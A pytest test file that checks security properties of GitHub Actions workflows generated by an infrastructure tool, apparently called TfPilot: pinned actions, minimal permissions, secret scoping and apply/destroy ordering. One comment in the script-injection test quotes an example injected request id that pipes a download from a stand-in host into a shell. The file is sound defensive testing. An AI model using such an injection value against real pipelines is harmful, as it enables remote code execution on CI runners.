"""The generated GitHub Actions workflows: valid YAML with the keys TfPilot relies on."""

from __future__ import annotations

import re
from typing import Any

import pytest
import yaml

from core.scaffold.generator import ACTION_PINS
from tests.scaffold.conftest import ENVS, WORKFLOW_KINDS, triggers

ALLOWED_ACTIONS = {
    "actions/checkout",
    "hashicorp/setup-terraform",
    "actions/upload-artifact",
    "actions/download-artifact",
    "aws-actions/configure-aws-credentials",
}
# A full commit sha: a tag (v4) can be moved to other code, a sha cannot.
PINNED = re.compile(r"^[0-9a-f]{40}$")
ALLOWED_PERMISSIONS = {"contents", "id-token", "pull-requests"}


def steps(workflow: dict[str, Any]) -> list[dict[str, Any]]:
    return [step for job in workflow["jobs"].values() for step in job["steps"]]


def run_scripts(workflow: dict[str, Any]) -> list[str]:
    return [step["run"] for step in steps(workflow) if "run" in step]


def test_every_workflow_is_valid_yaml(files: dict[str, str]) -> None:
    for kind in WORKFLOW_KINDS:
        doc = yaml.safe_load(files[f".github/workflows/{kind}.yml"])
        assert isinstance(doc, dict)
        assert doc["name"] == f"tfpilot {kind}"
        assert doc["jobs"]


@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
def test_dispatch_inputs(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
    inputs = triggers(workflows[kind])["workflow_dispatch"]["inputs"]
    assert set(inputs) == {"request_id", "environment"}
    assert inputs["request_id"]["type"] == "string"
    assert inputs["environment"]["type"] == "choice"
    required = kind != "drift"  # the scheduled drift run covers every request
    assert inputs["request_id"]["required"] is required
    assert inputs["environment"]["required"] is required
    options = inputs["environment"]["options"]
    assert options == (["all", *ENVS] if kind == "drift" else ENVS)


@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
def test_run_name_holds_the_request_id(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
    run_name = workflows[kind]["run-name"]
    assert run_name.startswith(f"{kind} ")
    assert "inputs.request_id" in run_name
    assert "inputs.environment" in run_name


def test_run_name_is_found_by_the_request_id_parser(workflows: dict[str, dict[str, Any]]) -> None:
    from core.domain.ids import request_id_in_text
    from core.domain.workflows import WorkflowNames

    for kind in WORKFLOW_KINDS:
        rendered = workflows[kind]["run-name"].replace("${{ inputs.request_id }}", "req_abc123def456")
        rendered = rendered.replace("${{ inputs.request_id || 'all' }}", "req_abc123def456")
        assert request_id_in_text(rendered) == "req_abc123def456", kind
        assert WorkflowNames().kind_of(f".github/workflows/{kind}.yml") == kind


@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
def test_concurrency(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
    concurrency = workflows[kind]["concurrency"]
    group = concurrency["group"]
    assert "github.repository" in group
    assert "inputs.environment" in group
    if kind in ("apply", "destroy"):
        # One state writer per environment: apply and destroy share the queue.
        assert group == "tfpilot-state-${{ github.repository }}-${{ inputs.environment }}"
    else:
        assert "inputs.request_id" in group
    assert concurrency["cancel-in-progress"] is False


def test_apply_and_destroy_share_one_queue(workflows: dict[str, dict[str, Any]]) -> None:
    assert workflows["apply"]["concurrency"]["group"] == workflows["destroy"]["concurrency"]["group"]


@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
def test_permissions_are_granted_per_job_and_minimal(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
    # Nothing at the workflow level: a job added later starts with no token rights at all.
    assert workflows[kind]["permissions"] == {}
    (job,) = workflows[kind]["jobs"].values()
    permissions = job["permissions"]
    assert set(permissions) <= ALLOWED_PERMISSIONS
    expected = (
        {"contents": "write", "pull-requests": "write"}
        if kind == "cleanup"
        else {"contents": "read", "id-token": "write"}
    )
    assert permissions == expected


@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
def test_id_token_only_where_the_aws_role_is_assumed(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
    for job in workflows[kind]["jobs"].values():
        assumes_role = any(
            s.get("uses", "").startswith("aws-actions/configure-aws-credentials@")
            and "role-to-assume" in (s.get("with") or {})
            for s in job["steps"]
        )
        assert (job["permissions"].get("id-token") == "write") is assumes_role


@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
def test_actions_are_allowed_and_pinned(kind: str, workflows: dict[str, dict[str, Any]], files: dict[str, str]) -> None:
    used = [step["uses"] for step in steps(workflows[kind]) if "uses" in step]
    assert used, "every workflow checks out the repository"
    for ref in used:
        action, _, version = ref.partition("@")
        assert action in ALLOWED_ACTIONS, ref
        assert PINNED.match(version), ref
    # No action hides elsewhere (job-level uses, composite references) either.
    raw_uses = re.findall(r"uses:\s*(\S+)", files[f".github/workflows/{kind}.yml"])
    assert sorted(raw_uses) == sorted(used)
    # Each pin names its release for readers (and Dependabot), and is the one the scaffold keeps.
    for line in re.findall(r"uses:.*", files[f".github/workflows/{kind}.yml"]):
        action, sha, release = re.fullmatch(r"uses: ([\w/-]+)@(\w+) # (v\d+\.\d+\.\d+)", line).groups()
        assert ACTION_PINS[action] == (sha, release)


def test_every_pinned_action_is_used_and_pins_are_full_shas(files: dict[str, str]) -> None:
    text = "\n".join(files[f".github/workflows/{kind}.yml"] for kind in WORKFLOW_KINDS)
    for action, (sha, release) in ACTION_PINS.items():
        assert PINNED.match(sha), action
        assert f"uses: {action}@{sha} # {release}" in text, action


def test_docs_record_each_pin_and_how_it_was_verified() -> None:
    from tests.conftest import REPO_ROOT

    docs = (REPO_ROOT / "docs" / "infra-repo.md").read_text()
    rows = {
        cells[0].strip("` "): [c.strip("` ") for c in cells[1:]]
        for line in docs.splitlines()
        if line.startswith("| `") and (cells := [c.strip() for c in line.strip("|").split("|")])
    }
    for action, (sha, release) in ACTION_PINS.items():
        tag, pinned, runtime, verified = rows[action][:4]
        assert (tag, pinned) == (release, sha), action
        assert runtime == "node24", action
        assert "rev-parse" in verified and "action.yml" in verified, action


@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
def test_inputs_and_secrets_never_spliced_into_scripts(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
    # Script injection: a request id like `x"; curl evil | sh` must reach shell code as data.
    for script in run_scripts(workflows[kind]):
        assert "${{" not in script, script


@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
def test_inputs_are_checked_first(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
    scripts = run_scripts(workflows[kind])
    assert scripts[0].startswith("python3 .github/tfpilot/tfpilot_ci.py check-inputs")


@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
def test_checkouts_keep_no_token(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
    # Even cleanup, which pushes: it hands GH_TOKEN to its push step alone (see below).
    checkouts = [s for s in steps(workflows[kind]) if s.get("uses", "").startswith("actions/checkout@")]
    assert checkouts
    for checkout in checkouts:
        assert checkout["with"]["persist-credentials"] is False


@pytest.mark.parametrize("kind", ["plan", "apply", "destroy", "drift"])
def test_aws_credentials_come_from_the_aws_action(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
    (job,) = workflows[kind]["jobs"].values()
    names = [s.get("name", "") for s in job["steps"]]
    pick = job["steps"][names.index("AWS credentials (which method)")]
    assert pick["id"] == "aws"
    assert pick["run"] == "python3 .github/tfpilot/tfpilot_ci.py aws-method"
    # The helper learns only whether the key secrets are set, never their values.
    assert pick["env"] == {
        "TFPILOT_AWS_ROLE_ARN": "${{ vars.TFPILOT_AWS_ROLE_ARN }}",
        "TFPILOT_AWS_KEYS_SET": "${{ secrets.AWS_ACCESS_KEY_ID != '' && secrets.AWS_SECRET_ACCESS_KEY != '' }}",
    }
    role, keys = (
        job["steps"][names.index("AWS credentials (OIDC role)")],
        job["steps"][names.index("AWS credentials (access keys)")],
    )
    for step in (role, keys):
        assert step["uses"].startswith("aws-actions/configure-aws-credentials@")
        assert step["with"]["aws-region"] == "${{ env.AWS_REGION }}"
    assert role["if"] == "steps.aws.outputs.method == 'role'"
    assert role["with"] == {
        "role-to-assume": "${{ vars.TFPILOT_AWS_ROLE_ARN }}",
        "role-session-name": "tfpilot-${{ inputs.request_id || 'drift' }}",
        "role-duration-seconds": "${{ vars.TFPILOT_AWS_SESSION_SECONDS || '3600' }}",
        "aws-region": "${{ env.AWS_REGION }}",
    }
    assert keys["if"] == "steps.aws.outputs.method == 'keys'"
    assert keys["with"]["aws-access-key-id"] == "${{ secrets.AWS_ACCESS_KEY_ID }}"
    assert keys["with"]["aws-secret-access-key"] == "${{ secrets.AWS_SECRET_ACCESS_KEY }}"
    # Inputs are checked before anything reaches AWS; credentials exist before Terraform runs.
    first_terraform = next(i for i, s in enumerate(job["steps"]) if "terraform init" in s.get("run", ""))
    check = next(i for i, name in enumerate(names) if name.startswith("Check inputs"))
    assert check < names.index("AWS credentials (which method)")
    assert names.index("AWS credentials (access keys)") < first_terraform
    # The secrets reach the credential steps only.
    for step in job["steps"]:
        if step not in (pick, keys):
            assert "AWS_SECRET_ACCESS_KEY" not in str(step)
    assert "secrets." not in str(job.get("env"))


def test_no_hand_written_sts_exchange(files: dict[str, str]) -> None:
    for path, text in files.items():
        for marker in (
            "AssumeRoleWithWebIdentity",
            "ACTIONS_ID_TOKEN_REQUEST",
            "sts.amazonaws.com/",
            "tfpilot_ci.py aws-credentials",
        ):
            assert marker not in text, (path, marker)


def test_plan_uploads_plan_json(workflows: dict[str, dict[str, Any]]) -> None:
    plan = workflows["plan"]
    scripts = run_scripts(plan)
    assert any("terraform plan" in s and "-out tfplan" in s for s in scripts)
    assert "terraform show -json tfplan > plan.json" in scripts
    uploads = [s for s in steps(plan) if s.get("uses", "").startswith("actions/upload-artifact@")]
    tfplan = next(u for u in uploads if u["with"]["name"] == "tfplan-${{ inputs.request_id }}")
    assert tfplan["with"]["path"] == "envs/${{ inputs.environment }}/plan.json"
    assert tfplan["with"]["if-no-files-found"] == "error"
    assert "if" not in tfplan and "continue-on-error" not in tfplan


def test_plan_cost_is_optional_and_guarded(workflows: dict[str, dict[str, Any]]) -> None:
    plan_steps = steps(workflows["plan"])
    gate = next(s for s in plan_steps if s.get("id") == "infracost")
    assert gate["env"]["INFRACOST_API_KEY"] == "${{ secrets.INFRACOST_API_KEY }}"
    guarded = [s for s in plan_steps if s.get("if") == "steps.infracost.outputs.enabled == 'true'"]
    assert len(guarded) == 2
    cost, upload = guarded
    assert cost["continue-on-error"] is True
    assert "--format json --out-file infracost.json" in cost["run"]
    assert "sha256sum -c" in cost["run"]  # the downloaded binary is verified
    assert upload["with"]["name"] == "infracost-${{ inputs.request_id }}"
    assert upload["with"]["path"].endswith("/infracost.json")
    # The key reaches only the steps that use it.
    for step in plan_steps:
        if step not in (gate, cost):
            assert "INFRACOST_API_KEY" not in str(step)


def test_apply_runs_only_merged_code_on_the_base_branch(workflows: dict[str, dict[str, Any]]) -> None:
    apply = workflows["apply"]
    job = apply["jobs"]["apply"]
    assert job["env"]["BASE_BRANCH"] == "${{ vars.TFPILOT_BASE_BRANCH || github.event.repository.default_branch }}"
    scripts = run_scripts(apply)
    assert (
        scripts[0]
        == 'python3 .github/tfpilot/tfpilot_ci.py check-inputs --require-branch "$BASE_BRANCH" --require-file'
    )
    assert any("terraform plan" in s and "-out tfplan" in s for s in scripts)
    apply_step = next(s for s in scripts if s.startswith("terraform apply"))
    # The saved plan, nothing re-planned (terraform's -json output piped to the helper's log).
    assert apply_step.split(" | ")[0].rstrip().endswith(" tfplan")
    assert not any("-target" in s for s in scripts)


def test_destroy_is_scoped_to_the_request(workflows: dict[str, dict[str, Any]], files: dict[str, str]) -> None:
    destroy = workflows["destroy"]
    scripts = run_scripts(destroy)
    checkout = next(s for s in steps(destroy) if s.get("uses", "").startswith("actions/checkout@"))
    assert checkout["with"]["fetch-depth"] == 0
    joined = "\n".join(scripts)
    order = [
        "check-inputs --require-branch",
        "request-file --out",
        "targets ",
        "terraform plan -destroy",
        "check-destroy ",
        "destroy-preflight ",
        "terraform apply -input=false -no-color -lock-timeout=10m tfdestroy",
        "check-restore ",
        "terraform apply -input=false -no-color -lock-timeout=10m tfrestore",
    ]
    positions = [joined.index(marker) for marker in order]
    assert positions == sorted(positions)
    assert '"-target=$address"' in joined
    # The restore runs only when the destroy itself failed (not when the preflight refused).
    by_name = {step.get("name"): step for step in steps(destroy)}
    restore = next(step for name, step in by_name.items() if name and name.startswith("Restore"))
    assert restore["if"] == "failure() && steps.destroy.outcome == 'failure'"
    assert by_name["terraform apply (the saved destroy plan)"]["id"] == "destroy"
    # The chosen approach is documented in the file itself.
    text = files[".github/workflows/destroy.yml"]
    assert "merges the removal PR only after this run succeeded" in text
    assert "from the parent of the commit that" in text  # a destroy begun the old way
    assert "-target" in text.split("name: tfpilot destroy")[0]


def test_cleanup_opens_a_pr_on_the_cleanup_branch(workflows: dict[str, dict[str, Any]]) -> None:
    cleanup = workflows["cleanup"]
    job = cleanup["jobs"]["cleanup"]
    # The token reaches the one step that pushes and opens the PR, not the job.
    assert "GH_TOKEN" not in job["env"]
    holders = [s for s in job["steps"] if "GH_TOKEN" in (s.get("env") or {})]
    assert len(holders) == 1
    assert holders[0]["env"]["GH_TOKEN"] == "${{ github.token }}"
    script = run_scripts(cleanup)[1]
    assert holders[0]["run"] == script
    # git gets the token from gh's credential helper, set up before the push.
    assert script.index("gh auth setup-git") < script.index("git push")
    assert 'file="envs/$TF_ENV/tfpilot_$REQUEST_ID.tf"' in script
    assert 'branch="cleanup/$REQUEST_ID"' in script
    assert 'git rm --quiet "$file"' in script
    assert 'gh pr create --base "$base" --head "$branch"' in script
    assert 'gh pr list --head "$branch" --state open' in script  # idempotent


def test_drift_schedule_and_webhooks(workflows: dict[str, dict[str, Any]]) -> None:
    drift = workflows["drift"]
    on = triggers(drift)
    assert re.match(r"^[0-9*/,-]+( [0-9*/,-]+){4}$", on["schedule"][0]["cron"])
    assert "workflow_dispatch" in on
    job = drift["jobs"]["drift"]
    assert job["env"]["TFPILOT_URL"] == "${{ vars.TFPILOT_URL || 'https://tfpilot.example.com' }}"
    assert job["env"]["TFPILOT_PROJECT"] == "${{ vars.TFPILOT_PROJECT || 'core' }}"
    matrix = job["strategy"]["matrix"]["environment"]
    assert 'fromJSON(\'["dev","staging","prod"]\')' in matrix
    plan = next(s for s in job["steps"] if s.get("id") == "plan")
    assert "-detailed-exitcode" in plan["run"]
    assert "-lock=false" in plan["run"]
    report = job["steps"][-1]
    assert report["env"]["TFPILOT_WEBHOOK_SECRET"] == "${{ secrets.TFPILOT_WEBHOOK_SECRET }}"
    assert report["run"].startswith("python3 .github/tfpilot/tfpilot_ci.py drift ")
    assert "TFPILOT_WEBHOOK_SECRET" not in str(job["env"])  # the secret reaches the report step only


@pytest.mark.parametrize("kind", WORKFLOW_KINDS)
def test_terraform_pinned_without_wrapper(kind: str, workflows: dict[str, dict[str, Any]]) -> None:
    setups = [s for s in steps(workflows[kind]) if s.get("uses", "").startswith("hashicorp/setup-terraform@")]
    if kind == "cleanup":
        assert setups == []
        return
    (setup,) = setups
    assert setup["with"] == {"terraform_version": "1.11.4", "terraform_wrapper": False}
